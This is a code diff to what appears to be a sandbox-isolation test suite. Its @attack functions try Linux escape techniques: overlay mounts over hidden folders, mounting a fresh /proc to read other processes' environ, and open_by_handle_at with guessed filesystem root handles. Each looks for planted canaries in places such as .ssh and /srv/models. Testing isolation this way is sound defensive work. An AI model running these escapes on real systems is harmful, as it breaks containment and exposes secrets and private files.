@@ -7,11 +7,10 @@ import struct
 from collections.abc import Iterator
 from pathlib import Path
 
-from .loot import canaries_below, canaries_of, leave_marks, tried
+from .loot import canaries_below, leave_marks, tried
 from .orders import Orders, attack
 from .processes import canaries_of_process, strangers
 from .system import (
-    CLONE_NEWPID,
     MNT_DETACH,
     MS_BIND,
     MS_REC,
@@ -24,12 +23,14 @@ from .system import (
     unmount,
 )
 
-OPEN_BY_HANDLE_AT = 304
-OPEN_TREE, MOVE_MOUNT, MOUNT_SETATTR, FSOPEN, FSCONFIG, FSMOUNT = 428, 429, 442, 430, 431, 432
-OPEN_TREE_CLONE, AT_RECURSIVE, MOVE_MOUNT_F_EMPTY_PATH = 1, 0x8000, 4
+NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT = 303, 304
+OPEN_TREE, MOUNT_SETATTR = 428, 442
+OPEN_TREE_CLONE, AT_RECURSIVE = 1, 0x8000
 AT_FDCWD = -100
 NAMESPACES = ("user", "mnt", "pid", "ipc", "cgroup", "uts")
-ROOT_INODES = (2, 64, 96, 128, 256, 1)
+HANDLE_BYTES = 128
+GUESSED_HANDLES = [struct.pack("IiII", 8, 1, inode, 0) for inode in (2, 64, 96, 128, 256, 1)]
+"""Of the roots of ext4, XFS and btrfs."""
 
 
 @attack
@@ -91,9 +92,10 @@ def overlay_mounts(orders: Orders) -> Iterator[str]:
     """An overlay whose lower folder is the hidden one."""
     enter_user_namespace()
     for lower in ("/home", orders.root, str(orders.folder)):
-        with tried(f"overlay {lower}"):
-            mount("none", "/tmp", "overlay", data=f"lowerdir={lower}:/srv")
-            yield from canaries_below("/tmp/packtrain/.ssh", "/tmp/jobs")
+        for option in ("", ",userxattr"):
+            with tried(f"overlay {lower}{option}"):
+                mount("none", "/media", "overlay", data=f"lowerdir={lower}:/srv{option}")
+                yield from canaries_below("/media/packtrain/.ssh", "/media/jobs")
 
 
 @attack
@@ -104,17 +106,6 @@ def new_proc(orders: Orders) -> Iterator[str]:
         mount("proc", "/proc", "proc")
     for pid in strangers():
         yield from canaries_of_process(pid, "environ")
-
-
-@attack
-def new_proc_in_new_numbers(orders: Orders) -> Iterator[str]:
-    """The same for the child of a new PID namespace."""
-    enter_user_namespace(CLONE_NEWPID)
-    with tried("mount proc"):
-        mount("proc", "/tmp", "proc")
-        for name in os.listdir("/tmp"):
-            if name.isdigit():
-                yield from canaries_of(f"/tmp/{name}/environ")
 
 
 @attack
@@ -144,12 +135,13 @@ def pivot_root(orders: Orders) -> Iterator[str]:
 
 @attack
 def file_handles(orders: Orders) -> Iterator[str]:
-    """open_by_handle_at(2): the root of a file system by its number, past all folders."""
+    """open_by_handle_at(2): a folder of a file system past all mounts, and its root by guessed numbers."""
     for privilege in ("user", "root"):
         if privilege == "root":
             enter_user_namespace()
-        for place in (orders.output, orders.attempt, Path("/")):
-            yield from by_handle(os.open(place, os.O_RDONLY), orders)
+        for place in (str(orders.output), str(orders.attempt), "/", "/dev/shm", "/tmp", "/srv/models"):
+            for handle in (own_handle(place), *GUESSED_HANDLES):
+                yield from by_handle(place, handle)
 
 
 @attack
@@ -193,14 +185,21 @@ def in_namespace_with(orders: Orders, source: str, flags: int) -> Iterator[str]:
         yield from pipe.read().split()
 
 
-def by_handle(place: int, orders: Orders) -> Iterator[str]:
-    """What the first folders of a file system hold, opened by number."""
-    for inode in ROOT_INODES:
-        for kind, content in ((1, struct.pack("II", inode, 0)), (0x81, struct.pack("QI", inode, 0))):
-            handle = ctypes.create_string_buffer(struct.pack("Ii", len(content), kind) + content)
-            with tried(f"handle {inode}"):
-                folder = syscall(OPEN_BY_HANDLE_AT, place, handle, os.O_RDONLY)
-                yield f"folder {os.listdir(folder)[:5]} by its number"
+def own_handle(place: str) -> bytes:
+    """The handle of a folder as the kernel tells it, or an empty one."""
+    buffer = ctypes.create_string_buffer(struct.pack("Ii", HANDLE_BYTES, 0), 8 + HANDLE_BYTES)
+    number = ctypes.create_string_buffer(4)
+    with tried(f"handle of {place}"):
+        syscall(NAME_TO_HANDLE_AT, AT_FDCWD, place.encode(), buffer, number, 0)
+    return buffer.raw
+
+
+def by_handle(place: str, handle: bytes) -> Iterator[str]:
+    """The canaries of a folder that is opened by its handle."""
+    buffer = ctypes.create_string_buffer(handle, len(handle))
+    with tried(f"open a handle of {place}"):
+        folder = syscall(OPEN_BY_HANDLE_AT, os.open(place, os.O_RDONLY), buffer, os.O_RDONLY)
+        yield from canaries_below(f"/proc/self/fd/{folder}")
 
 
 def mount_points() -> list[str]:
